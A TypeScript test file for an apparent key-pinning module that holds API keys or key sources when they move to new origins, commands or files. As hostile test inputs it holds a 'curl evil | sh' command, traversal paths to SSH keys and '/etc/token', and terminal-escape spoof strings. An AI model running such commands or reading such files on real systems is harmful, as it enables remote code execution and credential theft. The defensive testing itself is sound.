import { join } from "node:path";
import t, { type Test } from "tap";
import type { KeySource } from "../../src/config/schema.ts";
import { Secret } from "../../src/core/secret.ts";
import { type Subject, Trust, type UntrustedChange } from "../../src/keys/trust.ts";
import { heldClock } from "../doubles/held-clock.ts";

const A = "https://a.example.com";
const B = "https://b.example.com";
const EVIL = "https://evil.example.net";
const ONE = new Secret("sk-canary-one-1111111111");
const TWO = new Secret("sk-canary-two-2222222222");

const env: KeySource = { kind: "env", name: "KEY" };
const command = (...argv: [string, ...string[]]): KeySource => ({ kind: "command", argv });
const file = (path: string): KeySource => ({ kind: "file", path });

function use(source: KeySource, ...origins: string[]): Subject {
  return { name: "codex", source, origins, home: ["/home/me/.config/keybearer"] };
}

async function loaded(t: Test): Promise<Trust> {
  const trust = new Trust({
    file: join(t.testdir(), "pins.json"),
    clock: heldClock(),
    ranBefore: () => false,
  });
  t.strictSame(await trust.load(), { problem: null });
  return trust;
}

/** A trust whose first start saw these. */
async function startedWith(t: Test, ...uses: [Subject, Secret][]): Promise<Trust> {
  const trust = await loaded(t);
  for (const [subject, key] of uses) {
    t.equal(trust.judgeSource(subject), null);
    t.equal(trust.judgeKey(subject, key), null);
  }
  t.strictSame(await trust.settle(), { problem: null, blocksKeys: false });
  return trust;
}

t.test("a rotated key needs no confirmation, and is known from then on", async (t) => {
  const trust = await startedWith(t, [use(env, A), ONE]);
  t.equal(trust.judgeKey(use(env, A), TWO), null);
  t.match(trust.judgeKey(use(env, B), TWO), { from: A, to: B });
});

t.test("a held tool is not released by the next rotation of its key", async (t) => {
  const home = file("/home/me/.config/keybearer/keys/codex");
  for (const source of [env, home, { kind: "literal", secret: TWO } as const]) {
    const trust = await startedWith(t, [use(source, A), ONE]);
    t.match(trust.judgeKey(use(source, EVIL), ONE), { from: A, to: EVIL });
    t.match(trust.judgeKey(use(source, EVIL), TWO), { from: A, to: EVIL }, source.kind);
    t.equal(trust.judgeKey(use(source, A), TWO), null, "back where it belongs, it may be rotated");
  }
});

t.test("a source used for one origin gives no new key to another, under any tool name", async (t) => {
  const home = file("/home/me/.config/keybearer/keys/codex");
  for (const source of [env, home, { kind: "keychain", service: "keybearer", account: "codex" } as const]) {
    const trust = await startedWith(t, [use(source, A), ONE]);
    t.match(
      trust.judgeKey({ ...use(source, EVIL), name: "innocent" }, TWO),
      { from: A, to: EVIL },
      source.kind,
    );
  }
});

t.test("a known key is held before it goes to another origin", async (t) => {
  const trust = await startedWith(t, [use(env, A), ONE]);
  t.strictSame(trust.judgeKey(use(env, EVIL), ONE), {
    what: "the key …1111 of codex",
    from: A,
    to: EVIL,
  } satisfies UntrustedChange);
  t.equal(trust.judgeKey(use(env, A), ONE), null, "where it belongs it stays usable");
});

t.test("a known key from another source is held", async (t) => {
  const trust = await startedWith(t, [use(env, A), ONE]);
  for (const source of [{ kind: "literal", secret: ONE } as const, file("/home/me/.config/keybearer/k")]) {
    t.match(trust.judgeKey(use(source, EVIL), ONE), { to: EVIL });
  }
});

t.test("keys swapped between two gateways are both held", async (t) => {
  const trust = await startedWith(t, [use(env, A), ONE], [use(env, B), TWO]);
  t.match(trust.judgeKey(use(env, B), ONE), { from: A, to: B });
  t.match(trust.judgeKey(use(env, A), TWO), { from: B, to: A });
});

t.test("one new origin beside a known one is enough to hold a key, and only it is shown", async (t) => {
  const trust = await startedWith(t, [use(env, A, B), ONE]);
  t.equal(trust.judgeKey(use(env, A), ONE), null);
  t.match(trust.judgeKey(use(env, A, EVIL), ONE), { from: `${A}, ${B}`, to: EVIL });
});

t.test("an origin is scheme, host and port in any spelling", async (t) => {
  const trust = await startedWith(t, [use(env, `${A}/v1`), ONE]);
  for (const same of [
    "https://A.example.com",
    "https://a.example.com:443/other?x#y",
    "https://u:p@a.example.com/",
  ]) {
    t.equal(trust.judgeKey(use(env, same), ONE), null, same);
  }
  const others = [
    "http://a.example.com",
    "https://a.example.com:8443",
    "https://a.example.com.",
    "https://a.example.com.evil.net",
    "https://a.example.com@evil.net",
    "foo://a.example.com",
    "not an address",
  ];
  for (const other of others) t.ok(trust.judgeKey(use(env, other), ONE), other);
});

t.test("unknown schemes are not all one origin", async (t) => {
  const trust = await startedWith(t, [use(env, "foo://a.example.com"), ONE]);
  t.ok(trust.judgeKey(use(env, "foo://b.example.com"), ONE));
});

t.test("at the first start one key may belong to two gateways", async (t) => {
  const trust = await startedWith(t, [use(env, A), ONE], [use(env, B), ONE]);
  t.equal(trust.judgeKey(use(env, A, B), ONE), null);
  t.ok(trust.judgeKey(use(env, EVIL), ONE));
});

t.test("a command of the first start is known by its exact argv", async (t) => {
  const trust = await startedWith(t, [use(command("/bin/op", "read", "x y"), A), ONE]);
  t.equal(trust.judgeSource(use(command("/bin/op", "read", "x y"), A)), null);
  const others: KeySource[] = [
    command("/bin/op", "read", "x", "y"),
    command("/bin/op", "read", "x y", ""),
    command("/bin/op"),
    command("/bin/OP", "read", "x y"),
    command('/bin/op","read', "x y"),
  ];
  for (const other of others) t.ok(trust.judgeSource(use(other, A)), JSON.stringify(other));
});

t.test("a command that comes later is held, with the old and the new one in the message", async (t) => {
  const trust = await startedWith(t, [use(command("/bin/op", "read", "op://Private/codex/key"), A), ONE]);
  t.strictSame(trust.judgeSource(use(command("/bin/sh", "-c", "curl evil | sh"), A)), {
    what: "the command that gives codex its key",
    from: "command /bin/op",
    to: `/bin/sh -c 'curl evil | sh', for ${A}`,
  } satisfies UntrustedChange);
});

t.test("a key never seen before is bound by where its command was used", async (t) => {
  const mint = command("/bin/mint-a-token");
  const trust = await startedWith(t, [use(mint, A), ONE]);
  t.match(trust.judgeKey(use(mint, EVIL), TWO), { from: A, to: EVIL });
  t.equal(trust.judgeKey(use(mint, A), TWO), null);
});

t.test("a file outside keybearer's folders is known by its normalized path", async (t) => {
  const trust = await startedWith(t, [use(file("/run/secrets/key"), A), ONE]);
  t.equal(trust.judgeSource(use(file("/run/other/../secrets//key"), A)), null);
  t.match(trust.judgeSource(use(file("/run/secrets/../../etc/token"), A)), {
    what: "the file that gives codex its key",
    from: "file:/run/secrets/key",
    to: `/etc/token, for ${A}`,
  });
});

t.test("a file in keybearer's folders may be read, unless its path leads out", async (t) => {
  const trust = await startedWith(t);
  t.equal(trust.judgeSource(use(file("/home/me/.config/keybearer/keys/codex"), A)), null);
  for (const path of [
    "/home/me/.config/keybearer/../../.ssh/id_ed25519",
    "/home/me/.config/keybearer-evil/key",
    "/home/me/.config/keybearer",
    "/home/me/.config/keybearer/..",
  ]) {
    t.ok(trust.judgeSource(use(file(path), A)), path);
  }
});

const PLACES: KeySource[] = [
  file("/home/me/.config/keybearer/keys/codex"),
  { kind: "keychain", service: "keybearer", account: "codex" },
];

t.test("a key at a place that no tool used before is held, unless keybearer stored it there", async (t) => {
  for (const place of PLACES) {
    const trust = await startedWith(t, [use(env, A), ONE]);
    t.equal(trust.judgeKey(use(place, A), ONE), null, "a known key belongs where it was used");

    const other = await startedWith(t, [use(env, A), ONE]);
    const held = other.judgeKey({ ...use(place, EVIL), name: "new" }, TWO);
    t.match(held, {
      what: /^the (file|keychain entry) that gives new its key$/,
      from: /^no /,
      to: `for ${EVIL}`,
    });
    t.ok(other.judgeKey(use(place, A), TWO), "neither does it go to a known address");
    other.claim(use(place, B));
    t.match(other.judgeKey({ ...use(place, EVIL), name: "new" }, TWO), { from: B, to: EVIL });
    t.equal(other.judgeKey({ ...use(place, B), name: "new" }, TWO), null);
    t.ok(other.judgeKey({ ...use(place, EVIL), name: "new" }, ONE), "nor does another key that is put there");
  }
});

t.test("what keybearer stores again at a place goes no longer where its last key went", async (t) => {
  for (const place of PLACES) {
    const trust = await startedWith(t, [{ ...use(place, A), name: "old" }, ONE]);
    trust.claim({ ...use(place, B), name: "new" });
    t.match(trust.judgeKey({ ...use(place, A), name: "third" }, TWO), { from: B, to: A });
    t.equal(trust.judgeKey({ ...use(place, B), name: "new" }, TWO), null);
  }
});

t.test("a key that is known at two addresses brings the keys after it to one of them only", async (t) => {
  for (const place of PLACES) {
    const trust = await startedWith(t, [use(place, A), ONE], [{ ...use(env, B), name: "second" }, ONE]);
    t.match(trust.judgeKey({ ...use(place, B), name: "thief" }, ONE), { from: A, to: B });
    t.equal(trust.judgeKey(use(place, A), ONE), null);
  }
});

t.test("a place that the first start names is known although it is still empty", async (t) => {
  for (const place of PLACES) {
    const trust = await loaded(t);
    t.equal(trust.judgeSource(use(place, A)), null);
    await trust.settle();
    t.match(trust.judgeKey({ ...use(place, EVIL), name: "thief" }, ONE), { from: A, to: EVIL });
    t.equal(trust.judgeKey(use(place, A), ONE), null);
  }
});

t.test("a variable is known by its name, and a key in config.yaml is never held as a source", async (t) => {
  const trust = await startedWith(t, [use(env, A), ONE]);
  t.equal(trust.judgeSource(use(env, A)), null);
  t.match(trust.judgeSource(use({ kind: "env", name: "OP_SERVICE_ACCOUNT_TOKEN" }, EVIL)), {
    what: "the variable that gives codex its key",
    from: "env:KEY",
    to: `env:OP_SERVICE_ACCOUNT_TOKEN, for ${EVIL}`,
  });
  t.equal(trust.judgeSource(use({ kind: "literal", secret: ONE }, A)), null);
});

t.test("trust covers exactly what was held", async (t) => {
  const trust = await startedWith(t, [use(env, A), ONE]);
  trust.grant(use(env, B), ONE);
  t.equal(trust.judgeKey(use(env, A, B), ONE), null);
  t.ok(trust.judgeKey(use(env, EVIL), ONE));
  const op = command("/bin/op", "read");
  trust.grant(use(op, B), null);
  t.equal(trust.judgeSource(use(op, B)), null);
  t.equal(trust.judgeKey(use(op, B), TWO), null);
  t.ok(trust.judgeSource(use(command("/bin/op", "write"), B)));
});

t.test("a message has no control characters, and hides what looks like a secret", async (t) => {
  const trust = await startedWith(t);
  const held = trust.judgeSource(
    use(command("/bin/x", "\u001b[2K\rall is well\u202e", "--token=sk-abcdef1234567"), A),
  );
  t.match(held?.to, "\\u{1b}[2K\\u{d}all is well\\u{202e}");
  t.notMatch(held?.to, /\p{C}/u);
  t.notMatch(held?.to, "sk-abcdef1234567");
  const other = trust.judgeSource(
    use(command("/bin/x", "\u001b[2K\rall is well\u202e", "--token=sk-abcdef7654321"), A),
  );
  t.not(held?.to, other?.to, "two that differ in the hidden part only can be distinguished");
});

t.test("the value of an option that names a secret is not shown", async (t) => {
  const trust = await startedWith(t);
  for (const argv of [["--password", "hunter2"], ["--api-key=hunter2"], ["-token", "hunter2"]]) {
    const held = trust.judgeSource(use(command("/bin/x", ...argv), A));
    t.notMatch(held?.to, "hunter2");
    t.match(held?.to, "[hidden]");
  }
});

t.test("invented keys cannot remove the pin of a real one", async (t) => {
  const trust = await startedWith(t, [use(env, A), ONE], [use(command("/bin/mint"), A), TWO]);
  for (let i = 0; i < 10_000; i += 1) {
    const secret = new Secret(`made-up-key-${i}`);
    trust.judgeKey({ ...use({ kind: "literal", secret }, EVIL), name: "made-up" }, secret);
  }
  t.match(trust.judgeKey(use(env, EVIL), ONE), { from: A, to: EVIL });
  const fresh = new Secret("sk-a-key-of-later");
  const itself: KeySource = { kind: "literal", secret: fresh };
  t.match(trust.judgeKey(use(itself, A), fresh), { from: /10000 keys are known/, to: A });
  t.equal(trust.judgeKey(use(command("/bin/mint"), A), fresh), null, "its source holds it");
  t.ok(trust.judgeKey(use(command("/bin/mint"), EVIL), fresh));
  trust.grant(use(itself, A), fresh);
  t.equal(trust.judgeKey(use(itself, A), fresh), null, "a person can always say yes");
});
